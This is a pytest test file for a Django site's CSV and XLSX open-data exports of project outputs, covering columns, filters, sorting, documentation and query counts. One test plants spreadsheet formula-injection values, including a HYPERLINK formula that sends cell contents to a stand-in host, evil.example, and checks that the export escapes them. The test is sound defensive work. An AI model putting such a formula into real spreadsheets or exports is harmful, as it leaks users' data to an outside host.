"""The outputs as open data: CSV and XLSX filtered like the library, columns defined once and documented on
/open-data/ (through projects' registry, which never imports results), formulas escaped, nothing hidden."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from projects import opendata as projects_opendata
from results.models import Output
from results.opendata import COLUMN_NAMES, DATASET
from tests.factories import OutputFactory
from tests.results.library import HIDDEN_TITLES

pytestmark = pytest.mark.django_db

STABLE_COLUMNS = [
    "id", "title", "url", "kind", "date", "pilot_action_code", "pilot_action", "pilot_action_url", "group",
    "borders", "countries", "themes", "languages", "file_url", "file_type", "link", "licence", "licence_url",
    "summary", "reuse", "published_at",
]  # fmt: skip


def read_csv(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_column_names_are_stable():
    """Reusers' scripts depend on these names: new ones go at the end, none is renamed."""
    assert COLUMN_NAMES[: len(STABLE_COLUMNS)] == STABLE_COLUMNS


def test_csv_holds_every_published_output_and_nothing_hidden(client, library):
    response = client.get(reverse("results:outputs-csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="resilient-borders-outputs.csv"'
    rows = read_csv(response)
    assert list(rows[0]) == COLUMN_NAMES
    assert {row["title"] for row in rows} == set(Output.objects.published().values_list("title", flat=True))
    assert not {row["title"] for row in rows} & set(HIDDEN_TITLES)
    plan = library["outputs"]["plan"]
    row = next(row for row in rows if row["title"] == plan.title)
    assert row["url"].endswith(plan.get_absolute_url()) and row["pilot_action_url"].endswith(
        plan.pilot_action.get_absolute_url()
    )
    assert row["kind"] == "joint-plan" and row["date"] == "2025-06-01" and row["pilot_action_code"] == "CM1"
    assert row["group"] == "crisis-management" and set(row["countries"].split("; ")) == {"DE", "FR"}
    assert row["languages"] == "de; fr" and row["themes"] == "floods" and row["borders"] == "france-germany"
    assert row["file_url"].endswith(plan.file.url) and row["file_type"] == "PDF" and row["link"] == ""
    assert row["licence"] == "cc-by-4.0" and row["licence_url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert row["reuse"] == "The **alert chain** works on any river." and row["published_at"]


def test_filters_are_the_librarys(client, library):
    for query in [{"kind": "study"}, {"group": "crisis-management", "language": "fr"}, {"q": "rhinewarn"}]:
        listed = {output.title for output in client.get("/outputs/", query).context["paginator"].object_list}
        rows = read_csv(client.get(reverse("results:outputs-csv"), query))
        assert listed and {row["title"] for row in rows} == listed, query


def test_sorted_like_the_library(client, library):
    rows = read_csv(client.get(reverse("results:outputs-csv"), {"sort": "title"}))
    assert [row["title"] for row in rows] == sorted(row["title"] for row in rows)
    newest = read_csv(client.get(reverse("results:outputs-csv")))
    assert [row["date"] for row in newest] == sorted((row["date"] for row in newest), reverse=True)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("query", [{"kind": "novel"}, {"language": "xx", "sort": "title,title"}])
def test_a_bad_filter_is_a_400_with_the_reasons(client, library, file_format, query):
    response = client.get(reverse(f"results:outputs-{file_format}"), query)
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert set(errors) == set(query) <= DATASET_FILTERS


DATASET_FILTERS = {"q", "kind", "group", "theme", "border", "country", "language", "sort"}


def test_xlsx_has_the_same_columns_and_rows(client, library):
    response = client.get(reverse("results:outputs-xlsx"))
    assert response["Content-Disposition"] == 'attachment; filename="resilient-borders-outputs.xlsx"'
    values = list(load_workbook(io.BytesIO(response.content)).active.values)
    assert list(values[0]) == COLUMN_NAMES
    assert {row[COLUMN_NAMES.index("title")] for row in values[1:]} == set(
        Output.objects.published().values_list("title", flat=True)
    )


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formulas_are_escaped(client, library, file_format):
    OutputFactory(
        pilot_action=library["pilot_actions"][0],
        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        summary="+SUM(1,2)",
        reuse="@cmd",
    )
    response = client.get(reverse(f"results:outputs-{file_format}"), {"q": "evil.example"})
    if file_format == "csv":
        (row,) = read_csv(response)
    else:
        header, values = list(load_workbook(io.BytesIO(response.content)).active.values)
        row = dict(zip(header, values, strict=True))
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["summary"] == "'+SUM(1,2)" and row["reuse"] == "'@cmd"


class TestDocumentation:
    def test_outputs_are_registered_with_projects_open_data(self):
        assert projects_opendata.DATASETS["outputs"] is DATASET

    def test_projects_never_imports_results(self):
        """projects is the lower app: results registers into it, not the other way round."""
        import ast
        from pathlib import Path

        import projects

        for path in Path(projects.__file__).parent.rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                modules = (
                    [alias.name for alias in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                    if isinstance(node, ast.ImportFrom)
                    else []
                )
                assert not [module for module in modules if module.split(".")[0] == "results"], path

    def test_open_data_page_documents_every_column_and_download(self, client, library, django_assert_max_num_queries):
        with django_assert_max_num_queries(6):
            response = client.get(reverse("projects:open-data"))
        content = response.content.decode()
        section = content[content.index('<section id="outputs"') :]
        documented = [name for name in COLUMN_NAMES if f"<code>{name}</code>" in section]
        assert documented == COLUMN_NAMES
        assert f'href="{reverse("results:outputs-csv")}">outputs.csv</a>' in section
        assert f'href="{reverse("results:outputs-xlsx")}">outputs.xlsx</a>' in section
        assert "Outputs of the pilot actions" in section

    def test_the_csv_columns_are_the_documented_ones(self, client, library):
        content = client.get(reverse("projects:open-data")).content.decode()
        section = content[content.index('<section id="outputs"') :]
        header = client.get(reverse("results:outputs-csv")).content.decode().splitlines()[0].split(",")
        assert [name for name in header if f"<code>{name}</code>" in section] == header

    def test_geojson_placement_properties_are_documented(self, client, db):
        content = client.get(reverse("projects:open-data")).content.decode()
        for name in projects_opendata.GEOJSON_PLACEMENT_PROPERTIES:
            assert f"<code>{name}</code>" in content
        assert "“exact”" in content and "“border”" in content

    def test_the_library_links_its_downloads_with_its_filters(self, client, library):
        content = client.get("/outputs/", {"language": "de"}).content.decode()
        assert f'href="{reverse("results:outputs-csv")}?language=de"' in content
        assert f'href="{reverse("projects:open-data")}#outputs"' in content


@pytest.mark.parametrize("many_pilot_actions", [20, 500], indirect=True)
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_query_budget(client, many_outputs, file_format, django_assert_max_num_queries):
    with django_assert_max_num_queries(12):
        response = client.get(reverse(f"results:outputs-{file_format}"), {"country": "fr"})
    assert response.status_code == 200
    if file_format == "csv":
        assert len(read_csv(response)) == Output.objects.published().count()
